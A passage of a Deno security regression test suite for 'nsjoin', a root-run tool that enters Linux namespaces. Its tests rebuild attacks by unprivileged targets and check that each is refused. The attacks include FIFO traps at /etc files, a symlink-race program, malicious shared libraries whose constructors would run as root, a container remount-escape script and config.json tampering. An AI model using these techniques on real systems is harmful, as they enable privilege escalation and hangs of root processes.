          flags: ["-U", "--map-root-user", "-m"],
          user: { uid: user.uid, gid: user.gid },
          setup: "mount -t tmpfs x /etc && printf '127.0.0.1 localhost\\n::1 localhost\\n' > " +
            "/etc/hosts && mkfifo /etc/gai.conf",
        });
        // Without the fix fn waits in glibc's once (TimeoutError) and so does root's own
        // lookup after it, for ever.
        assertEquals(await victim(target.pid, lookup, lookup), {
          inside: "connected",
          host: "connected",
        });
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 24: an error from inside named like an Object.prototype property rejects the call, never crashes root's process",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // fn rebuilds an error a service of the target reported (serialize-error's
    // deserializeError does so): its name is the target's to choose. The caller's class
    // lookup found "toString" and "__proto__" on Object.prototype and threw in the Worker's
    // message listener, where no caller can catch it: root's whole process died.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-errname-" });
    try {
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-m"],
        user: { uid: user.uid, gid: user.gid },
        setup: "mount -t tmpfs x /srv && echo '" +
          JSON.stringify(["toString", "__proto__", "constructor", "valueOf", "TypeError"]) +
          "' > /srv/names.json",
      });
      await Deno.writeTextFile(
        `${dir}/victim.ts`,
        `import { inNamespaces } from "${ROOT}mod.ts";
const out = [];
for (let i = 0; i < 5; i++) {
  try {
    await inNamespaces(${target.pid}, async (i: number) => {
      const name = JSON.parse(await Deno.readTextFile("/srv/names.json"))[i];
      throw Object.assign(new Error("reported by the service"), { name });
    }, { namespaces: ["mnt"], arg: i });
  } catch (e) {
    out.push([e instanceof Error, (e as Error).name, (e as Error).message]);
  }
}
console.log(JSON.stringify(out));
Deno.exit(0);
`,
      );
      const out = await runPiped(
        Deno.execPath(),
        {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`],
        },
        undefined,
        120_000,
      );
      assertEquals(out.code, 0, `root's process died: ${out.stderr}`);
      const message = "reported by the service";
      assertEquals(JSON.parse(out.stdout), [
        [true, "toString", message],
        [true, "__proto__", message],
        [true, "constructor", message],
        [true, "valueOf", message],
        [true, "TypeError", message],
      ]);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 24: a namespace file a user swaps for a FIFO after the check never keeps root's inNamespaces or scopedJoin waiting",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // The path is checked (O_PATH, a regular file on nsfs) and was then opened again by
    // name with a plain open(2): a user's symlink flipping between their namespace and a
    // FIFO had that open wait for a writer, on root's calling thread, for ever.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-nsflip-" });
    await Deno.chmod(dir, 0o755);
    await Deno.chown(dir, user.uid, user.gid);
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-n"],
      user: { uid: user.uid, gid: user.gid },
    });
    // The user's flipper: their two symlinks, exchanged atomically every 50 µs.
    await Deno.writeTextFile(
      `${dir}/flip.c`,
      `#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
  for (;;) {
    syscall(SYS_renameat2, AT_FDCWD, "ns", AT_FDCWD, "ns.x", 2 /* RENAME_EXCHANGE */);
    usleep(50);
  }
}
`,
    );
    await sh("gcc", ["-O2", "-o", `${dir}/flip`, `${dir}/flip.c`]);
    const flipper = new Deno.Command("setpriv", {
      args: [
        `--reuid=${user.uid}`,
        `--regid=${user.gid}`,
        "--clear-groups",
        "sh",
        "-c",
        `
        cd ${dir} && mkfifo fifo && ln -s /proc/${target.pid}/ns/net ns && ln -s fifo ns.x &&
        exec ./flip`,
      ],
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    try {
      await Deno.writeTextFile(
        `${dir}/../${dir.split("/").pop()}.victim.ts`,
        `import { inNamespaces, scopedJoin } from "${ROOT}mod.ts";
const counts: Record<string, number> = { ran: 0 };
const deadline = Date.now() + 20_000;
const attempt = async (join: () => unknown) => {
  try {
    await join();
    counts.ran++;
  } catch (e) {
    const why = (e as Error).message.replace(/ (the )?(net namespace of|${
          dir.replaceAll("/", "\\/")
        }).*/, "");
    counts[why] = (counts[why] ?? 0) + 1;
  }
};
while (Date.now() < deadline && ((counts["Cannot open"] ?? 0) < 3 || counts.ran < 2)) {
  await attempt(() => inNamespaces("${dir}/ns", () => 1, { namespaces: ["net"], reuse: false }));
  await attempt(() => scopedJoin("${dir}/ns", ["net"])[Symbol.dispose]());
}
console.log(JSON.stringify(counts));
Deno.exit(0);
`,
      );
      const out = await runPiped(
        Deno.execPath(),
        {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}.victim.ts`],
        },
        undefined,
        90_000,
      ).catch((e) => ({ code: -1, stdout: "", stderr: (e as Error).message }));
      assertEquals(out.code, 0, `root's process hung: ${out.stderr}`);
      const counts = JSON.parse(out.stdout);
      // The race was won at the open (refused there now), and joins still work.
      assert(counts["Cannot open"] >= 1 && counts.ran >= 1, JSON.stringify(counts));
    } finally {
      flipper.kill("SIGKILL");
      await flipper.status;
      await Deno.remove(`${dir}.victim.ts`).catch(() => {});
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 24: hostile podman, containerd and CRI targets

/**
 * The user's config.json of their rootless container `id` (their graph root, whichever driver
 * it uses): what nsjoin reads the container's WorkingDir, Env and User from.
 */
function rootlessSpecPath(home: string, id: string): string {
  for (const driver of ["overlay", "vfs"]) {
    const path =
      `${home}/.local/share/containers/storage/${driver}-containers/${id}/userdata/config.json`;
    try {
      Deno.statSync(path);
      return path;
    } catch {
      // Another driver.
    }
  }
  throw new Error(`no config.json of ${id} in ${home}'s store`);
}

Deno.test({
  name:
    "stop 24: root's exec of a rootless container reaches its WorkingDir and /etc/passwd as its root, never as the host's",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // A rootless container's owner may bind-mount any host directory they can look up, one
    // of root's mode 0700 ones too (they cannot enter it), and they write the container's
    // config.json and files. The helper changed directory to the configured WorkingDir as
    // the host's uid 0 (the owner bits of root's directories let it in), and the container
    // then read root's files through the program's /proc/PID/cwd; /etc/passwd, linked into
    // that directory, was read with every capability of root's. podman exec refuses both.
    const owner = podmanUser();
    if (!owner) throw new Error("tests/setup.sh did not create the rootless podman user");
    await ensureImages(owner);
    const token = crypto.randomUUID();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec24-" }); // root's, 0700
    await Deno.chmod(dir, 0o700);
    await Deno.mkdir(`${dir}/proj`, { mode: 0o755 });
    await Deno.chmod(`${dir}/proj`, 0o755);
    await Deno.writeTextFile(`${dir}/proj/secret.txt`, `${token}\n`, { mode: 0o644 });
    await Deno.writeTextFile(`${dir}/passwd`, `root:x:0:0::/LEAKED-${token}:/bin/sh\n`, {
      mode: 0o600,
    });
    const name = `nsjoin-sec24b-${crypto.randomUUID().slice(0, 8)}`;
    const c = await startContainer("podman", name, ["-v", `${dir}:/r`], owner);
    const target = `podman@${owner.name}:${name}`;
    const inside = (cmd: string) => run("podman", ["exec", name, "sh", "-c", cmd], { user: owner });
    const exec = (args: string[]) =>
      runPiped(Deno.execPath(), { args: ["run", "-A", "--quiet", CLI, "exec", ...args] });
    try {
      await t.step("control: the container's root cannot enter the directory", async () => {
        const out = await inside("cat /r/proj/secret.txt");
        assert(!out.stdout.includes(token), "the container reads it without nsjoin");
        assertMatch(out.stderr, /Permission denied/);
      });
      await t.step("WorkingDir in it: refused, nothing lends the container a way in", async () => {
        const spec = rootlessSpecPath(owner.home, c.id);
        const original = await Deno.readTextFile(spec);
        const j = JSON.parse(original);
        j.process.cwd = "/r/proj"; // the owner's file, rewritten as they may
        await Deno.writeTextFile(spec, JSON.stringify(j));
        const child = new Deno.Command(Deno.execPath(), {
          args: [
            ...["run", "-A", "--quiet", CLI, "exec", target],
            ...["sh", "-c", "echo $$; exec sleep 300"],
          ],
          stdout: "piped",
          stderr: "piped",
        }).spawn();
        try {
          // The program says its PID inside, or exec ends: whichever comes first.
          const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
          const first = await Promise.race([
            reader.read().then((r) => r.value ?? ""),
            new Promise<string>((_, reject) =>
              setTimeout(() => reject(new Error("exec neither ran nor ended in 60 s")), 60_000)
            ),
          ]);
          const pid = Number(first.trim());
          if (pid > 0) {
            const out = await inside(`cat /proc/${pid}/cwd/secret.txt`);
            assert(
              !out.stdout.includes(token),
              "the container read root's file through the program",
            );
            throw new Error(`the program ran in the directory (pid ${pid} inside)`);
          }
          const status = await child.status;
          const stderr = await new Response(child.stderr).text();
          assertEquals(status.code, 125, stderr);
          assertMatch(stderr, /Cannot change directory to \/r\/proj in the target: EACCES/);
        } finally {
          try {
            child.kill("SIGKILL");
          } catch {
            // Ended.
          }
          await child.status;
          await Deno.writeTextFile(spec, original);
        }
      });
      await t.step(
        "enter -W keeps nsenter's contract: the caller's path, as the caller",
        async () => {
          const args = ["-t", String(c.pid), "-U", "-m", "-W", "/r/proj", "pwd"];
          const anchor = await runPiped("nsenter", { args });
          assertEquals([anchor.code, anchor.stdout], [0, "/r/proj\n"], anchor.stderr);
          const ours = await runPiped(Deno.execPath(), {
            args: ["run", "-A", "--quiet", CLI, "enter", ...args],
          });
          assertEquals([ours.code, ours.stdout], [0, "/r/proj\n"], ours.stderr);
        },
      );
      await t.step(
        "a WorkingDir its root may enter still works, for another user too",
        async () => {
          await must("podman", [
            "exec",
            name,
            "sh",
            "-c",
            "mkdir -p /p/d && chown 1000 /p/d && chmod 700 /p /p/d",
          ], {
            user: owner,
          });
          const out = await exec(["-w", "/p/d", "-u", "1000", target, "pwd"]);
          assertEquals([out.code, out.stdout], [0, "/p/d\n"], out.stderr);
        },
      );
      await t.step("/etc/passwd linked into it: refused, the file never read", async () => {
        await must("podman", [
          "exec",
          name,
          "sh",
          "-c",
          "rm /etc/passwd && ln -s /r/passwd /etc/passwd",
        ], {
          user: owner,
        });
        const out = await exec(["-u", "root", "-w", "/", target, "sh", "-c", "echo HOME=$HOME"]);
        assert(!out.stdout.includes("LEAKED"), `root's file gave the program ${out.stdout}`);
        assertEquals(out.code, 125, out.stderr);
        assertMatch(out.stderr, /Cannot read \/etc\/passwd of pid [0-9]+: EACCES/);
      });
    } finally {
      await removeContainers([c]);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 25: attacking stop 23/24's fixes and what was left alone (sec25a)

Deno.test({
  name: "stop 25: a kept inNamespaces Worker is not reused once its target is in other namespaces",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    await t.step("a process that execs `unshare -m` under the same PID", async () => {
      // A local user's process: its own mount namespace, which it leaves for a new one by
      // exec, keeping its PID and start time (the key a kept Worker was found by).
      const user = await testUser();
      const child = new Deno.Command("setpriv", {
        args: [
          `--reuid=${user.uid}`,
          `--regid=${user.gid}`,
          "--clear-groups",
          "unshare",
          "-Urm",
          "sh",
          "-c",
          `mount -t tmpfs x /mnt && echo first > /mnt/marker && echo ready && read line &&
          exec unshare -m sh -c 'mount -t tmpfs y /mnt && echo second > /mnt/marker &&
          echo moved && exec sleep 600'`,
        ],
        stdin: "piped",
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      const lines = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
      const expect = async (word: string) => {
        let seen = "";
        while (!seen.includes(word)) {
          const { value, done } = await lines.read();
          if (done) throw new Error(`the target ended before it said ${word}: ${seen}`);
          seen += value;
        }
      };
      const stdin = child.stdin.getWriter();
      try {
        await expect("ready");
        const marker = () =>
          inNamespaces(child.pid, () => Deno.readTextFileSync("/mnt/marker").trim(), {
            namespaces: ["mnt"],
          });
        assertEquals(await marker(), "first");
        await stdin.write(new TextEncoder().encode("go\n"));
        await expect("moved");
        // Without the check the Worker of the first call (kept 5 s) answered: "first".
        assertEquals(await marker(), "second");
      } finally {
        await closeNamespaceWorkers();
        try {
          child.kill("SIGKILL");
        } catch {
          // Ended.
        }
        await stdin.close().catch(() => {});
        await lines.cancel().catch(() => {});
        await child.status;
      }
    });
    await t.step("a named netns deleted and made again under the same name", async () => {
      const name = `nsjoin-s25a-${Deno.pid}`;
      const ip = (...args: string[]) => must("ip", args);
      try {
        await ip("netns", "add", name);
        await ip("-n", name, "link", "set", "lo", "up"); // a fresh one's is down
        const links = () =>
          inNamespaces(
            `/run/netns/${name}`,
            async () => {
              const out = await new Deno.Command("ip", { args: ["-o", "link", "show", "lo"] })
                .output();
              return new TextDecoder().decode(out.stdout).includes(",UP") ? "first" : "second";
            },
            { namespaces: ["net"] },
          );
        assertEquals(await links(), "first");
        await ip("netns", "delete", name);
        await ip("netns", "add", name);
        // Without the check: "first", the deleted namespace the kept Worker still held.
        assertEquals(await links(), "second");
      } finally {
        await closeNamespaceWorkers();
        await new Deno.Command("ip", { args: ["netns", "delete", name], stderr: "null" }).output();
      }
    });
  },
});

Deno.test({
  name:
    "stop 25: inNamespaces with mnt never runs a target's library through WebGPU (navigator.gpu)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // navigator.gpu is there without a flag in Deno 2.9, and its first requestAdapter()
    // dlopen()s libvulkan.so.1 by name (then libEGL) where the calling thread resolves paths:
    // in a sealed Worker, the target's /usr/lib. A local user's `unshare -Urm` process whose
    // /usr/lib/x86_64-linux-gnu is a tmpfs of theirs is the target; the library's constructor
    // says which uid ran it, on root's stderr.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-gpu-" });
    await Deno.chmod(dir, 0o755);
    await Deno.mkdir(`${dir}/lib`);
    await Deno.chmod(`${dir}/lib`, 0o777);
    await Deno.writeTextFile(
      `${dir}/evil.c`,
      `#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void run(void) {
  fprintf(stderr, "TARGET-CODE-RAN uid=%d\\n", (int)getuid());
}
`,
    );
    await must("gcc", ["-shared", "-fPIC", "-o", `${dir}/libvulkan.so.1`, `${dir}/evil.c`]);
    await Deno.writeTextFile(
      `${dir}/victim.ts`,
      `import { inNamespaces } from "${ROOT}mod.ts";
const out = await inNamespaces(Number(Deno.args[0]), async () => {
  try {
    await navigator.gpu.requestAdapter();
    return "requested";
  } catch (e) {
    return (e as Error).message;
  }
}, { namespaces: ["mnt"], timeout: 60_000 });
console.log(JSON.stringify(out));
Deno.exit(0);
`,
    );
    const lib = `${dir}/lib`;
    const target = new Deno.Command("setpriv", {
      args: [
        `--reuid=${user.uid}`,
        `--regid=${user.gid}`,
        "--clear-groups",
        "unshare",
        "-Urm",
        "sh",
        "-c",
        // The shell and mount are loaded before their libraries are hidden; busybox is static.
        `mount -t tmpfs x ${lib} && cp ${dir}/libvulkan.so.1 /bin/busybox ${lib}/ &&
        mount --bind ${lib} /usr/lib/x86_64-linux-gnu && exec ${lib}/busybox sleep 600`,
      ],
      stdin: "null",
      stdout: "null",
      stderr: "inherit",
    }).spawn();
    try {
      await waitFor("the target's busybox sleep", () => {
        try {
          // argv[0], not the text: setpriv's and sh's command lines name busybox too.
          return Deno.readTextFileSync(`/proc/${target.pid}/cmdline`).startsWith(
            `${lib}/busybox\0sleep`,
          );
        } catch {
          throw new Error("the target ended before it was ready");
        }
      });
      const out = await runPiped(
        Deno.execPath(),
        {
          args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`, String(target.pid)],
        },
        undefined,
        120_000,
      );
      // Without the seal: TARGET-CODE-RAN uid=0 on stderr, and fn said "requested".
      assert(!out.stderr.includes("TARGET-CODE-RAN"), `the target's library ran: ${out.stderr}`);
      assertEquals(out.code, 0, out.stderr);
      assertMatch(JSON.parse(out.stdout), /^Cannot use WebGPU in fn: /);
    } finally {
      try {
        target.kill("SIGKILL");
      } catch {
        // Ended.
      }
      await target.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 25: debug's read-only tools stay read-only to a container with CAP_SYS_ADMIN (locked mounts)",
  ignore: NEEDS_ROOT || (!HAVE_DOCKER && !CI),
  sanitizeResources: false,
  async fn() {
    // The program is dumpable after execve and has the container's uid, so the container's
    // root may enter its mount namespace (nsenter -m); with CAP_SYS_ADMIN there it remounted
    // the tools read-write and wrote into the host's directory. A tools directory of the
    // test's own (busybox) stands for the host's /usr.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-tools-" });
    await Deno.mkdir(`${dir}/usr/bin`, { recursive: true });
    await Deno.copyFile("/bin/busybox", `${dir}/usr/bin/busybox`);
    await Deno.chmod(`${dir}/usr/bin/busybox`, 0o755);
    for (const a of ["sh", "sleep"]) await Deno.symlink("busybox", `${dir}/usr/bin/${a}`);
    await Deno.symlink("usr/bin", `${dir}/bin`);
    const c = await startContainer("docker", `nsjoin-s25a-${crypto.randomUUID().slice(0, 8)}`, [
      "--cap-add",
      "SYS_ADMIN",
    ]);
    const debug = new Deno.Command(Deno.execPath(), {
      args: ["run", "-A", "--quiet", CLI, "debug", "--tools", dir, c.name, "sleep", "27182"],
      stdin: "null",
      stdout: "null",
      stderr: "piped",
    }).spawn();
    try {
      const attack = String.raw`
        for p in /proc/[0-9]*; do
          [ "$(tr '\0' ' ' < $p/cmdline 2>/dev/null)" = "sleep 27182 " ] || continue
          nsenter -t ${"$"}{p#/proc/} -m sh -c '
            mount -o remount,bind,rw /usr; echo "remount $?"
            mkdir -p /tmp/again && mount --bind /usr /tmp/again &&
              mount -o remount,bind,rw /tmp/again; echo "bind $?"
            touch /usr/written /tmp/again/written; echo "write $?"' 2>/dev/null
          exit 0
        done
        exit 1`;
      let out = await engineExec(c, [], ["sh", "-c", attack]);
      for (let i = 0; i < 100 && out.code !== 0; i++) {
        await new Promise((r) => setTimeout(r, 100));
        out = await engineExec(c, [], ["sh", "-c", attack]);
      }
      assertEquals(out.code, 0, `the debug program never showed up: ${out.stderr}`);
      const written = await Deno.stat(`${dir}/usr/written`).then(() => true, () => false);
      // Without the lock: "remount 0", "bind 0", "write 0", and the file on the host.
      assert(!written, `the container wrote into the host's tools: ${out.stdout}`);
      assertEquals(out.stdout.trim().split("\n"), ["remount 1", "bind 1", "write 1"]);
    } finally {
      debug.kill("SIGTERM");
      await debug.status;
      await debug.stderr.cancel();
      await removeContainers([c]);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 25: a change of TZ in fn never reads the target's zone files for root's process, nor hangs it",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // Deno calls glibc's tzset() and has V8 redetect ICU's zone when TZ changes: both read
    // zone files where the calling thread resolves paths (a mnt Worker: the target's
    // /etc/localtime, or /usr/share/zoneinfo/NAME), for the whole process. README tells fn to
    // read the target's zone as data, which invites `Deno.env.set("TZ", theirs)` in fn.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-tz25-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(
      `${dir}/victim.ts`,
      `import { inNamespaces } from "${ROOT}mod.ts";
const inside = await inNamespaces(Number(Deno.args[0]), () => {
  try {
    Deno.env.set("TZ", "Europe/Paris");
    Deno.env.delete("TZ");
    return "changed";
  } catch (e) {
    return (e as Error).message;
  }
}, { namespaces: ["mnt"], timeout: 5_000 }).catch((e) => e.name);
const offset = () => new Date(2020, 0, 1).getTimezoneOffset();
const w = new Worker(
  "data:application/javascript,postMessage(new Date(2020,0,1).getTimezoneOffset())",
  { type: "module" },
);
const later = await new Promise((r) => { w.onmessage = (e) => r(e.data); });
w.terminate();
// Root's own change of TZ afterwards (glibc's tzset takes the lock a stuck thread holds).
Deno.env.set("TZ", "UTC");
Deno.env.delete("TZ");
console.log(JSON.stringify({ inside, host: offset(), later }));
Deno.exit(0);
`,
    );
    const victim = async (pid: number) => {
      const out = await runPiped(
        Deno.execPath(),
        { args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`, String(pid)] },
        undefined,
        60_000,
      ).catch((e) => ({ code: -1, stdout: "", stderr: (e as Error).message }));
      assertEquals(out.code, 0, `root's process hung or failed: ${out.stderr}`);
      return JSON.parse(out.stdout);
    };
    const hostOffset = new Date(2020, 0, 1).getTimezoneOffset();
    const zone = hostOffset === -540 ? "America/Caracas" : "Asia/Tokyo";
    const refused = /^Cannot use TZ in fn: /;
    try {
      for (
        const [what, setup] of [
          ["its /etc/localtime", `cat /usr/share/zoneinfo/${zone} > /etc/localtime`],
          ["a FIFO at its /etc/localtime", "mkfifo /etc/localtime"],
        ]
      ) {
        await t.step(what, async () => {
          await using target = await makeTarget({
            flags: ["-U", "--map-root-user", "-m"],
            user: { uid: user.uid, gid: user.gid },
            setup: `mount -t tmpfs x /etc && ${setup}`,
          });
          // Without the refusal: a Worker made later had the target's zone (-540 where
          // root's is UTC), and with the FIFO root's own change of TZ waited for ever.
          const seen = await victim(target.pid);
          assertEquals([seen.host, seen.later], [hostOffset, hostOffset]);
          assertMatch(seen.inside, refused);
        });
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 26: sealed evaluator process

Deno.test({
  name: "stop 26: a FIFO at a target's /etc/resolv.conf never hangs root's own name lookups",
  // Open since stop 25 (docs/security.md, stop 25); closed by the evaluator's own process.
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // glibc parses resolv.conf under one process-wide lock (resolv_conf.c: "Parse
    // configuration while holding the lock"), in the mount namespace of the thread that asks,
    // and again whenever the file is not the regular file it last parsed — a FIFO every time.
    // Every getaddrinfo of a name takes that lock, `localhost` too. A local user's
    // `unshare -Urm` process, whose /etc is theirs, is the target; fn's lookup of a name
    // with mnt joined is the trigger, and root's own lookup after it is the victim.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-resolv-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(
      `${dir}/victim.ts`,
      `import { inNamespaces } from "${ROOT}mod.ts";
const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
const port = (listener.addr as Deno.NetAddr).port;
const lookup = async (port: number) => {
  const c = await Deno.connect({ hostname: "localhost", port });
  c.close();
  return "connected";
};
const inside = await inNamespaces(Number(Deno.args[0]), lookup, {
  namespaces: ["mnt"], arg: port, timeout: 5_000,
}).catch((e) => e.name);
const host = await lookup(port);
console.log(JSON.stringify({ inside, host }));
Deno.exit(0);
`,
    );
    try {
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-m"],
        user: { uid: user.uid, gid: user.gid },
        setup: "mount -t tmpfs x /etc && printf '127.0.0.1 localhost\\n' > /etc/hosts && " +
          "mkfifo /etc/resolv.conf",
      });
      const out = await runPiped(
        Deno.execPath(),
        { args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`, String(target.pid)] },
        undefined,
        60_000,
      ).catch((e) => ({ code: -1, stdout: "", stderr: (e as Error).message }));
      // fn times out (its thread waits in open(2) holding the lock); with the evaluator in
      // root's own process, root's lookup of localhost afterwards waited for ever: killed at 60 s.
      assertEquals(out.code, 0, `root's process hung or failed: ${out.stderr}`);
      assertEquals(JSON.parse(out.stdout).host, "connected");
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "stop 26: a huge /etc/resolv.conf of a target never grows root's own memory",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // glibc reads the whole file (no newline: one line) into the memory of the process whose
    // thread looks a name up: with the evaluator in root's process, 33 MB → 605 MB peak
    // (stop 25), a larger file an OOM kill of root's process.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-resolv-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(
      `${dir}/victim.ts`,
      `import { inNamespaces } from "${ROOT}mod.ts";
const inside = await inNamespaces(Number(Deno.args[0]), async () => {
  const c = await Deno.connect({ hostname: "localhost", port: 9 }).catch((e) => e);
  if ("close" in c) c.close();
  return "looked up";
}, { namespaces: ["mnt"], timeout: 20_000 }).catch((e) => e.name);
const peak = /^VmHWM:\\s+(\\d+) kB$/m.exec(Deno.readTextFileSync("/proc/self/status"))![1];
console.log(JSON.stringify({ inside, peakMb: Math.round(Number(peak) / 1024) }));
Deno.exit(0);
`,
    );
    try {
      await using target = await makeTarget({
        flags: ["-U", "--map-root-user", "-m"],
        user: { uid: user.uid, gid: user.gid },
        setup: "mount -t tmpfs x /etc && printf '127.0.0.1 localhost\\n' > /etc/hosts && " +
          "truncate -s 512M /etc/resolv.conf",
      });
      const out = await runPiped(
        Deno.execPath(),
        { args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`, String(target.pid)] },
        undefined,
        60_000,
      );
      assertEquals(out.code, 0, out.stderr);
      const { peakMb } = JSON.parse(out.stdout);
      assert(peakMb < 300, `root's process grew to ${peakMb} MB reading the target's file`);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 26: attacking stop 25's fixes (sec26)

Deno.test({
  name:
    "stop 26: inNamespaces with mnt never loads a target's library through node:sqlite, node:repl or Deno's N-API op, nor lets TZ through",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // Four doors stop 25's seal left open, each from fn with mnt joined, where every path is
    // the target's: node:sqlite's loadExtension(path), node:repl's context require and the
    // N-API loader Deno leaves on Deno[Deno.internal].core.ops all dlopen() the path (the
    // library's constructor runs as root in root's process), and Deno.env.set with a key whose
    // toString() is "TZ" passed the refusal's comparison with the string. A local user's `unshare -Urm` process is the
    // target: a tmpfs of its own holds the library (the host's directory stays empty), and
    // its /etc/localtime is another zone than root's.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-s26-" });
    await Deno.chmod(dir, 0o755);
    await Deno.mkdir(`${dir}/lib`);
    await Deno.chmod(`${dir}/lib`, 0o777);
    await Deno.writeTextFile(
      `${dir}/evil.c`,
      `#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void run(void) {
  fprintf(stderr, "TARGET-CODE-RAN uid=%d\\n", (int)getuid());
}
`,
    );
    await must("gcc", ["-shared", "-fPIC", "-o", `${dir}/evil.so`, `${dir}/evil.c`]);
    await Deno.chmod(`${dir}/evil.so`, 0o644);
    const hostOffset = new Date(2020, 0, 1).getTimezoneOffset();
    const zone = hostOffset === -540 ? "America/Caracas" : "Asia/Tokyo";
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-m"],
      user: { uid: user.uid, gid: user.gid },
      setup: `mount -t tmpfs x ${dir}/lib && cp ${dir}/evil.so ${dir}/lib/evil.node &&
        mount -t tmpfs x /etc && cat /usr/share/zoneinfo/${zone} > /etc/localtime`,
    });
    const lib = `${dir}/lib/evil.node`;
    assert(
      !(await Deno.stat(lib).then(() => true, () => false)),
      "the library is the target's alone",
    );
    const victim = async (body: string) => {
      await Deno.writeTextFile(
        `${dir}/victim.ts`,
        `import { inNamespaces } from "${ROOT}mod.ts";
const inside = await inNamespaces(Number(Deno.args[0]), async () => {
  try {
    ${body}
    return "done";
  } catch (e) {
    return (e as Error).message;
  }
}, { namespaces: ["mnt"], timeout: 30_000 });
const w = new Worker(
  "data:application/javascript,postMessage(new Date(2020,0,1).getTimezoneOffset())",
  { type: "module" },
);
const later = await new Promise((r) => { w.onmessage = (e) => r(e.data); });
w.terminate();
console.log(JSON.stringify({ inside, later }));
Deno.exit(0);
`,
      );
      const out = await runPiped(
        Deno.execPath(),
        { args: ["run", "-A", "--quiet", "--no-lock", `${dir}/victim.ts`, String(target.pid)] },
        undefined,
        60_000,
      );
      assert(!out.stderr.includes("TARGET-CODE-RAN"), `the target's library ran: ${out.stderr}`);
      assertEquals(out.code, 0, out.stderr);
      return JSON.parse(out.stdout) as { inside: string; later: number };
    };
    try {
      await t.step("node:sqlite loadExtension (import and getBuiltinModule)", async () => {
        for (
          const load of [
            `(await import("node:sqlite")).DatabaseSync`,
            `(globalThis as any).process.getBuiltinModule("node:sqlite").DatabaseSync`,
          ]
        ) {
          // Without the refusal: TARGET-CODE-RAN uid=0 (then sqlite's "undefined symbol").
          const seen = await victim(`const Db = ${load};
    new Db(":memory:", { allowExtension: true } as any).loadExtension(${JSON.stringify(lib)});`);
          assertMatch(seen.inside, /^Cannot use node:sqlite's loadExtension in fn: /);
        }
      });
      await t.step("node:repl's context require", async () => {
        // Without the refusal: TARGET-CODE-RAN uid=0 — a require with node:module's rules,
        // native addons, child_process and any file of the target's included.
        const seen = await victim(`const { PassThrough } = await import("node:stream");
    const repl = await import("node:repl");
    const server = repl.start({ prompt: "", input: new PassThrough(), output: new PassThrough() });
    try {
      server.context.require(${JSON.stringify(lib)});
    } finally {
      server.close();
    }`);
        assertMatch(seen.inside, /^Cannot load node:repl in fn: /);
      });
      await t.step("Deno[Deno.internal].core.ops.op_napi_open", async () => {
        // Without the refusal: TARGET-CODE-RAN uid=0 ("Unable to find register Node-API module").
        const seen = await victim(`const core = (Deno as any)[(Deno as any).internal].core;
    const f = () => {};
    core.ops.op_napi_open(${JSON.stringify(lib)}, globalThis, f, f, f, f, f, f);`);
        assertMatch(seen.inside, /^Cannot use native addons in fn: /);
      });
      await t.step("Deno.env.set and delete with a key that says TZ", async () => {
        // Without the conversion: "done", and a Worker made later had the target's zone.
        const seen = await victim(`const key = { toString: () => "TZ" } as unknown as string;
    try {
      Deno.env.set(key, "Europe/Paris");
    } finally {
      Deno.env.delete(key);
    }`);
        assertEquals(seen.later, hostOffset);
        assertMatch(seen.inside, /^Cannot use TZ in fn: /);
      });
    } finally {
